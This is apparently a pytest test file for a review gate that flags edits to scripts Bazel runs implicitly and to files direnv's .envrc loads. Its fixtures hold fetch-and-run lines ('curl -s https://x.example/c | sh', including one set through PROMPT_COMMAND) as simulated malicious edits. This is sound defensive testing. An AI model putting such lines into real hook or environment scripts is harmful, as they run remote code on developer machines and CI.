"""What a `.bazelrc` makes Bazel run, and what an `.envrc` above a file makes direnv load (issue 12, classes52).

Bazel runs `--workspace_status_command`, `--credential_helper` and `--run_under` programs on ordinary builds, unasked,
on every machine and CI job that builds: `ci` (bazelhooks.py). direnv loads what an `.envrc` in a file's folder or
any folder above sources, runs or puts on the PATH, without asking again: the `guardrail` tag (envrcloads.py). On
53a70ac every such file was `src` and untagged, and the gate allowed its edit with `--tree` (guardrails enabled too).
"""

from __future__ import annotations

from pathlib import Path

import pytest
from changecase import committed, gated_rules
from gitrepo import two_commits
from incli import tree_classify
from tables import each_case

from gatekeeper.classify import bazelhooks, envrcloads

BAZELRC = """\
# remote cache and stamping
build --workspace_status_command=tools/buildstamp/get_workspace_status
common --credential_helper=%workspace%/tools/credentials.sh
common:ci --credential_helper=*.cache.example.com=tools/cache_creds.py
test --run_under="bash tools/test_wrapper.sh"
# build --workspace_status_command=tools/old_status.sh
run --run_under=//tools:debug_wrapper
"""
HOOKS = ["tools/buildstamp/get_workspace_status", "tools/credentials.sh", "tools/cache_creds.py",
         "tools/test_wrapper.sh"]
NOT_HOOKS = {"tools/old_status.sh": "src", "tools/debug_wrapper.sh": "src", "tools/lint.sh": "src"}
EVIL = "#!/bin/sh\ncurl -s https://x.example/c | sh\n"


@pytest.fixture(scope="module")
def bazel(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, str]]:
    files = {".bazelrc": "import %workspace%/tools/ci.bazelrc\n", "tools/ci.bazelrc": BAZELRC,
             "MODULE.bazel": 'module(name = "app")\n', **dict.fromkeys([*HOOKS, *NOT_HOOKS], "#!/bin/sh\necho ok\n")}
    repo, base, head = two_commits(tmp_path_factory.mktemp("bazel") / "repo", files,
                                   dict.fromkeys([*HOOKS, *NOT_HOOKS], EVIL))
    return tree_classify(repo.root, base, head)


@each_case("path", HOOKS)
def test_a_program_bazel_runs_on_every_build_is_ci(bazel: dict[str, dict[str, str]], path: str) -> None:
    assert (bazel[path]["bucket"], bazel[path]["rule"]) == ("ci", bazelhooks.RULE), bazel[path]
    assert bazel[path]["evidence"].startswith("tools/ci.bazelrc makes Bazel run"), bazel[path]


@each_case("path", sorted(NOT_HOOKS))
def test_a_comment_a_label_or_an_unnamed_script_keeps_its_class(bazel: dict[str, dict[str, str]], path: str) -> None:
    assert bazel[path]["bucket"] == NOT_HOOKS[path], bazel[path]


def test_the_option_forms() -> None:
    text = (b"build --workspace_status_command ./status.sh\n"
            b"common --credential_helper=%workspace%/a/b.sh --credential_helper=x.io=$(pwd)/c.py\n"
            b"build --workspace_status_command=/usr/local/bin/status --credential_helper=gcloud-helper\n"
            b"build --credential_helper=$HOME/x.sh --run_under=@tools//:w\n")
    assert bazelhooks.named("sub/.bazelrc", text) == ("sub/status.sh", "status.sh", "sub/a/b.sh", "a/b.sh",
                                                      "sub/c.py", "c.py", "sub/gcloud-helper", "gcloud-helper")


def test_the_gate_reviews_an_edit_of_the_workspace_status_script(tmp_path: Path) -> None:
    case = committed(tmp_path, {".bazelrc": "build --workspace_status_command=tools/status.sh\n",
                                "tools/status.sh": "#!/bin/sh\necho STABLE_SHA x\n"}, {"tools/status.sh": EVIL})
    code, named = gated_rules(case, True)
    assert code == 3 and "tools/status.sh" in named.get("core.ci", []), named


def test_from_a_patch_that_shows_the_bazelrc(tmp_path: Path) -> None:
    # A patch adding the option and the script together: the line it shows names the script.
    case = committed(tmp_path, {".bazelrc": "build --jobs=8\n"},
                     {".bazelrc": "build --jobs=8\nbuild --credential_helper=%workspace%/tools/creds.sh\n",
                      "tools/creds.sh": EVIL})
    code, named = gated_rules(case, False)
    assert code == 3 and "tools/creds.sh" in named.get("core.ci", []), named


ENVRC_ROOT = "source_env tools/env.sh\nPATH_add bin\ndotenv\nload_prefix .local\neval \"$(./scripts/dev-env)\"\n"
ENVRC_SERVICE = "# the api's own settings\nsource_up\nsource ./dev/api.sh\nexport CONFIG=$PWD/config/app.toml\n"
LOADED = ["tools/env.sh", "bin/git", ".env", ".local/bin/make", "scripts/dev-env", "services/api/dev/api.sh",
          "services/api/config/app.toml"]
NOT_LOADED = ["tools/build.sh", "bin/sub/tool", "services/api/main.py", "docs/env.sh"]


@pytest.fixture(scope="module")
def direnv(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, str]]:
    files = {".envrc": ENVRC_ROOT, "services/api/.envrc": ENVRC_SERVICE,
             **dict.fromkeys([*LOADED, *NOT_LOADED], "echo ok\n")}
    repo, base, head = two_commits(tmp_path_factory.mktemp("direnv") / "repo", files,
                                   dict.fromkeys([*LOADED, *NOT_LOADED], EVIL))
    return tree_classify(repo.root, base, head)


@each_case("path", LOADED)
def test_what_an_envrc_above_loads_is_a_guardrail(direnv: dict[str, dict[str, str]], path: str) -> None:
    assert "guardrail" in direnv[path]["tags"], direnv[path]


@each_case("path", NOT_LOADED)
def test_what_no_envrc_loads_is_not_tagged(direnv: dict[str, dict[str, str]], path: str) -> None:
    assert "guardrail" not in direnv[path]["tags"], direnv[path]


def test_the_guardrails_gate_reviews_a_script_a_root_envrc_sources(tmp_path: Path) -> None:
    # The `.envrc` is at the root; the script two folders down runs on the next `cd` anywhere in the repository.
    case = committed(tmp_path, {".envrc": "source_env tools/dev/env.sh\n", "tools/dev/env.sh": "export A=1\n"},
                     {"tools/dev/env.sh": "export PROMPT_COMMAND='curl -s https://x.example | sh'\n"})
    code, named = gated_rules(case, True, "guardrails")
    assert code == 3 and any("tools/dev/env.sh" in paths for paths in named.values()), named


def test_the_reader_of_an_envrc() -> None:
    files, folders = envrcloads.loads(b"# source_env old.sh\nsource_env_if_exists .envrc.private\n"
                                      b"dotenv_if_exists .env.dev\nPATH_add bin node_modules/.bin\n"
                                      b"path_add PYTHONPATH lib\nsource $HOME/.secrets\nwatch_file ../x\n")
    assert {".envrc.private", ".env.dev", "bin", "node_modules/.bin", "lib"} <= files
    assert "old.sh" not in files and not any(f.startswith(("..", "/")) or "$" in f for f in files)
    assert folders == {"bin", "node_modules/.bin", "lib"}


# Docs review 53: an `.envrc` that sets PATH itself (`export PATH="$PWD/bin:$PATH"`) puts the folder first as PATH_add
# does, but only the direnv functions were read: `bin/git` was untagged and `gate --tree --enable guardrails` exit 0.
PATH_FORMS = [
    'export PATH="$PWD/bin:$PATH"', "export PATH=$PWD/bin:$PATH", 'PATH="$(pwd)/bin:$PATH"',
    'export PATH="${PWD}/bin:${PATH}"', "export PATH=bin:$PATH", "export PATH=./bin:$PATH",
    'export PATH="$PATH:$PWD/bin"', "PATH=$PWD/tools:$PWD/bin:$PATH; export PATH", "export PATH='./bin':$PATH",
    'export PATH="$(expand_path .)/bin:$PATH"',
]


@each_case("line", PATH_FORMS)
def test_a_folder_an_envrc_puts_on_the_path_by_assignment(tmp_path: Path, line: str) -> None:
    repo, base, head = two_commits(tmp_path / "r", {".envrc": line + "\n", "bin/git": "echo ok\n", "lib/x.sh": "x\n"},
                                   {"bin/git": EVIL, "lib/x.sh": EVIL})
    found = tree_classify(repo.root, base, head)
    assert "guardrail" in found["bin/git"]["tags"], (line, found["bin/git"])
    assert "guardrail" not in found["lib/x.sh"]["tags"], line
    assert "bin" in envrcloads.loads(line.encode())[1], line
